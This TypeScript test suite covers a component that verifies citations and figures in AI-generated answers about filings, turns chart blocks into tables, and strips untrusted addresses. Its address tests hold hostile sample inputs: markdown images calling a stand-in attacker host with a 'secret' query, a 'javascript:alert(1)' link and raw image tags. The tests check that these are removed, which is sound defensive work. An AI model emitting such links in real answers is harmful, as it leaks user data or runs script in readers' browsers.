import fc from 'fast-check';
import { createRunSources } from '../sources/run-sources.ts';
import { noChecks } from './answer-output.ts';
import { createAnswerText, quoteRemoved } from './answer-text.ts';
import { createCitationBook } from './citation-book.ts';
import { createFigurePlaces, createKnownFigures } from './figure-sources.ts';
import { createStretchReadings } from './stretch-readings.ts';

const section = `## Item 1A. Risk Factors

The Company’s business *could* be adversely affected by a **shortage** of components
from single-source suppliers. We call it the "Plan" and "Act" on it.

| (in millions) | 2024 | 2023 |
|---|---:|---:|
| Net sales | $ 391,035 | $ 383,285 |
| Gross margin | 46.2% | 44.1% |

売上高は前年に比べ「減少」した。New tariffs may harm us; ![x](https://evil.example/a.png) they are 5.5 million.
`;

interface More {
  question?: string;
  trusts?: (address: string) => boolean;
  keepsCharts?: boolean;
}

function answer(parts: string[], more: More = {}) {
  const sources = createRunSources();
  const place = { kind: 'filing', country: 'US', filing_id: 'f1', section: '1A' } as const;
  sources.add(place, 'Apple 10-K, 1A', { start: 0, text: section, page: null });
  sources.add({ kind: 'document', document_id: 'doc_1' }, 'notes.pdf', {
    start: 100,
    text: 'Intro.\n<!-- page 3 -->\nRents rise by 4% each year in Leeds, as agreed.',
    page: 2,
  });
  const checks = noChecks();
  const text = createAnswerText('t1', {
    book: createCitationBook(sources),
    isKnownFigure: createKnownFigures(sources, () => more.question ?? ''),
    figurePlaces: createFigurePlaces(sources, createStretchReadings()),
    keepsCharts: more.keepsCharts ?? false,
    trusts: more.trusts ?? (() => false),
    checks,
  });
  const pieces = [...parts.flatMap((part) => text.push(part)), ...text.end()];
  const out = pieces.map((piece) => ('text' in piece ? piece.text : '')).join('');
  const citations = pieces.flatMap((piece) => ('citation' in piece ? [piece.citation] : []));
  const charts = pieces.flatMap((piece) => ('chart' in piece ? [piece.chart] : []));
  return { out, citations, charts, checks };
}

describe('quotes of an answer', () => {
  it('become numbered citations with exact positions', () => {
    const { out, citations, checks } = answer([
      'It says "adversely affected by a shortage of components from single-source suppliers" [[src_1]]. Also ' +
        '"New tariffs may harm us" [[src_1]], and again “new tariffs may harm us” [[src_1]] "New tariffs may harm us" [[src_1]].',
    ]);
    expect(out).toBe(
      'It says "adversely affected by a shortage of components from single-source suppliers" [1]. Also ' +
        `"New tariffs may harm us" [2], and again ${quoteRemoved} "New tariffs may harm us" [2].`,
    );
    expect(citations.map(({ n }) => n)).toEqual([1, 2, 2]);
    for (const { n, text_start, text_end, char_start, char_end, quote, text_id } of citations) {
      expect(out.slice(text_start, text_end)).toBe(`[${n}]`);
      expect(section.slice(char_start, char_end)).toBe(quote);
      expect(text_id).toBe('t1');
    }
    expect(citations[0]?.quote).toContain('**shortage** of components\nfrom');
    expect(checks).toMatchObject({ quotes_verified: 3, quotes_dropped: 1, marks_dropped: 0 });
  });

  it.each([
    [
      'quotation marks within',
      '"We call it the "Plan" and "Act" on it." [[src_1]]',
      '"We call it the "Plan" and "Act" on it." [1]',
    ],
    [
      'a term in quotes before',
      'The "bad" word: "New tariffs may harm us" [[src_1]]',
      'The "bad" word: "New tariffs may harm us" [1]',
    ],
    ['a stop of the answer', '"New tariffs may harm us." [[src_1]]', '"New tariffs may harm us." [1]'],
    [
      'words left out',
      '"The Company’s business … components from single-source suppliers" [[src_1]]',
      '"The Company’s business … components from single-source suppliers" [1]',
    ],
    ['a row of a table', '"Net sales $391,035 $383,285" [[src_1]]', '"Net sales $391,035 $383,285" [1]'],
    ['a row as it stands', '"| Net sales | $ 391,035 |" [[src_1]]', '"| Net sales | $ 391,035 |" [1]'],
    [
      'Japanese',
      '同社は「売上高は前年に比べ「減少」した」[[src_1]]という',
      '同社は「売上高は前年に比べ「減少」した」[1]という',
    ],
    ['the wrong id', '"New tariffs may harm us; they" [[src_2]]', quoteRemoved],
    [
      'the wrong id of long words',
      '"from single-source suppliers. We call it" [[src_2]]',
      '"from single-source suppliers. We call it" [1]',
    ],
    [
      'two ids, one wrong',
      '"New tariffs may harm us" [[src_2]] [[src_1]] so',
      '"New tariffs may harm us" [1] so',
    ],
    ['ids in one mark', '"New tariffs may harm us" [[src_1, src_9]] so', '"New tariffs may harm us" [1] so'],
    ['careless brackets', '"New tariffs may harm us" [src_1] so', '"New tariffs may harm us" [1] so'],
    ['an unknown id', '"tariffs may harm" [[src_77]] so', `${quoteRemoved} so`],
    ['made-up words', 'He said "we will surely grow" [[src_1]] so', `He said ${quoteRemoved} so`],
    [
      'made-up words after a term',
      'The "Plan" and "no such words" [[src_1]]',
      `The "Plan" and ${quoteRemoved}`,
    ],
    ['part of a number', '"5 million" [[src_1]]', quoteRemoved],
    ['part of a word', '"ariffs may harm us" [[src_1]]', quoteRemoved],
    ['no quote', 'Risks are many [[src_1]].', 'Risks are many .'],
    [
      'a sentence without quotation marks',
      'New tariffs may harm us [[src_1]].',
      'New tariffs may harm us [1].',
    ],
    ['no source', 'A mark [[nonsense here]] stays', 'A mark [[nonsense here]] stays'],
  ])('with %s', (_, given, wanted) => {
    expect(answer([given]).out).toBe(wanted);
  });

  it('support a table that is above its mark', () => {
    const table = '| (in millions) | 2024 | 2023 |\n|---|---|---|\n| Net sales | $ 391,035 | $ 383,285 |';
    const { out, citations } = answer([`${table}\n\nTable in Item 7 [[src_1]]`]);
    expect(out).toBe(`${table}\n\nTable in Item 7 [1]`);
    expect(citations[0]?.quote).toContain('391,035');
  });

  it('name the page of a document, and the position in its stored text', () => {
    const { citations } = answer(['"Rents rise by 4% each year" [[src_2]]']);
    expect(citations).toMatchObject([
      { document_id: 'doc_1', page: 3, char_start: 123, url: '/api/documents/doc_1/text', filing_id: null },
    ]);
  });

  it('are held back only up to a limit', () => {
    const long = `A "quote ${'that never ends '.repeat(200)}`;
    expect(answer([long]).out).toBe(long);
    const { out } = answer([`${long}" [[src_1]] x`]);
    expect(out.length).toBeGreaterThan(3000);
  });
});

describe('figures of an answer', () => {
  it.each([
    ['held by a source', 'Net sales were $391,035 million, gross margin 46.2%.', []],
    ['rounded and scaled', 'About $391.0 billion, or $391 billion, at 46%.', []],
    ['the question’s own', 'You asked about $12 billion.', []],
    ['made up', 'It grew 7.9% to $400 billion.', ['7.9%', '$400 billion']],
    ['years, dates, items', 'In 2024, on 28 September, Item 1A, note 12, 10-K, 3 risks and 1. and 2.', []],
    ['grouped', 'It has 164,000 employees.', ['164,000']],
    ['Japanese', '売上高は1兆2,345億円です。', ['1兆2,345億円']],
    ['within a checked quote', '"they are 5.5 million" [[src_1]]', []],
  ])('%s', (_, given, wanted) => {
    const { out, checks } = answer([given], { question: 'Is it $12 billion?' });
    expect(checks.figures_unverified.map(({ figure }) => figure)).toEqual(wanted);
    for (const { start, end, figure } of checks.figures_unverified) {
      expect(out.slice(start, end)).toBe(figure);
      expect(out.slice(end)).toMatch(/^ \[unverified\]/);
    }
    expect(out.split('[unverified]')).toHaveLength(wanted.length + 1);
  });
});

describe('addresses in an answer', () => {
  it.each([
    ['![a](https://evil.example/p.png?q=secret) x', '*[image removed]* x'],
    ['![a][r] x\n\n[r]: https://evil.example/p?q=1', '*[image removed]*[a][r] x\n\n[r]\\: `evil.example`'],
    ['See [the filing](https://evil.example/a?b=c).', 'See the filing (`evil.example`).'],
    ['See [it](//evil.example/a) [me](javascript:alert(1))', 'See it (`evil.example`) me'],
    ['At https://evil.example/a?b=c, or www.evil.example/x.', 'At `evil.example`, or `www.evil.example`.'],
    ['<img src=https://evil.example/a> a<br>b', '&lt;img src=`evil.example`> a<br>b'],
    [
      '[own](/api/reports/rep_1) [sec](https://www.sec.gov/a)',
      '[own](/api/reports/rep_1) [sec](https://www.sec.gov/a)',
    ],
    ['when x < y and a<b', 'when x < y and a&lt;b'],
    [
      '"New tariffs may harm us; ![x](https://evil.example/a.png) they are 5.5 million" [[src_1]]',
      '"New tariffs may harm us; *[image removed]* they are 5.5 million" [1]',
    ],
    ['```chart\n{"x": "$99 billion"}\n```\nok', '```chart\n{"x": "$99 billion"}\n```\nok'],
  ])('%s', (given, wanted) => {
    const trusts = (address: string) => address.startsWith('https://www.sec.gov/');
    expect(answer([given], { trusts }).out).toBe(wanted);
  });
});

describe('charts of an answer', () => {
  const spec = (values: (number | null)[], more: object = {}) => ({
    type: 'bar',
    title: 'Gross margin',
    unit: '%',
    x: ['FY24', 'FY23'],
    series: [{ name: 'All', values }],
    ...more,
  });
  const block = (declared: object) => `\`\`\`chart\n${JSON.stringify(declared)}\n\`\`\`\n`;

  it('are sent as a table, and drawn when the sources hold their figures', () => {
    const { out, charts, checks } = answer([`So it was:\n${block(spec([46.2, 44.1]))}And more.`]);
    expect(out).toBe(
      'So it was:\n\n**Gross margin** (%)\n\n| | All |\n|---|---:|\n| FY24 | 46.2 |\n| FY23 | 44.1 |\n\nAnd more.',
    );
    expect(charts).toEqual([{ title: 'Gross margin', spec: spec([46.2, 44.1]), source_ids: ['src_1'] }]);
    expect(checks.figures_unverified).toEqual([]);
  });

  it.each([
    ['scaled', [391.0, 383.3], 'USD billions', ['src_1']],
    ['exact', [391_035, 383_285], '$ in millions', ['src_1']],
    ['of two sources', [4, 46.2], '%', ['src_2', 'src_1']],
    ['with a gap', [46.2, null], '%', ['src_1']],
  ])('may have figures %s', (_, values, unit, source_ids) => {
    const { charts } = answer([block(spec(values, { unit }))]);
    expect(charts.map((chart) => chart.source_ids.toSorted())).toEqual([source_ids.toSorted()]);
  });

  it('with a figure that no source holds are not drawn, and the figure is marked', () => {
    const { out, charts, checks } = answer([block(spec([46.2, 47.9]))], { question: 'Was it 47.9%?' });
    expect(charts).toEqual([]);
    expect(out).toContain('| FY24 | 46.2 |\n| FY23 | 47.9 [unverified] |');
    const [found] = checks.figures_unverified;
    expect(out.slice(found?.start, found?.end)).toBe('47.9');
  });

  it('contain no address, and no additional cells', () => {
    const { out, charts } = answer([
      block(
        spec([46.2, 44.1], { title: 'See https://evil.example/x', x: ['a|b', '![p](https://evil.example)'] }),
      ),
    ]);
    expect(out + JSON.stringify(charts)).not.toContain('https:');
    expect(out).toContain('| a\\|b | 46.2 |');
  });

  it.each([
    ['that are not valid', '```chart\n{"type":"bar"}\n```\n'],
    ['of uneven series', block(spec([46.2]))],
    ['that never end', '```chart\n{"type": "b'],
    ['of other code', block(spec([46.2, 44.1])).replace('chart', 'json')],
  ])('%s stay code', (_, given) => {
    expect(answer([given])).toMatchObject({ out: given, charts: [] });
  });

  it('stay blocks that a report can draw, unless no source holds a figure', () => {
    const held = block(spec([46.2, 44.1]));
    expect(answer([held], { keepsCharts: true })).toMatchObject({ out: held, charts: [] });
    expect(answer([block(spec([46.2, 1.5]))], { keepsCharts: true }).out).toContain('| 1.5 [unverified] |');
  });
});

describe('an answer that comes in pieces', () => {
  const morsels = [
    '"New tariffs may harm us"',
    ' [[src_1]]',
    '[[src_2]]',
    ' [src_1]',
    '"made up"',
    'A "term" here. ',
    '\n',
    '\n\n',
    '- ',
    '# ',
    '```',
    '```\n',
    '\n```chart\n',
    '{"type":"bar","x":["a"],"series":[{"name":"s","values":[46.2]}]}\n```\n',
    '~~',
    '![a](https://evil.example/x)',
    '[a](',
    'https://e.example/',
    ') ',
    '<img',
    '<br>',
    '$5.5 million ',
    '46.2%',
    '9.9% ',
    '1,234',
    ' up. ',
    '「',
    '」',
    '“',
    '”',
    '[[',
    ']]',
    '[',
    '!',
    'h',
    'www.',
    '|',
    'x',
    ' ',
    ', ',
    '売上高は1兆円。',
    '\\',
  ];
  const text = fc
    .array(fc.oneof(fc.constantFrom(...morsels), fc.string({ maxLength: 6 })), { maxLength: 30 })
    .map((all) => all.join(''));

  it('gives the same result as in one piece, wherever it was cut', () => {
    fc.assert(
      fc.property(text, fc.array(fc.nat({ max: 12 }), { minLength: 1, maxLength: 40 }), (whole, sizes) => {
        const parts: string[] = [];
        for (let at = 0, turn = 0; at < whole.length; turn += 1) {
          const size = 1 + (sizes[turn % sizes.length] ?? 0);
          parts.push(whole.slice(at, at + size));
          at += size;
        }
        expect(answer(parts)).toEqual(answer([whole]));
      }),
      { numRuns: 600 },
    );
  });
});
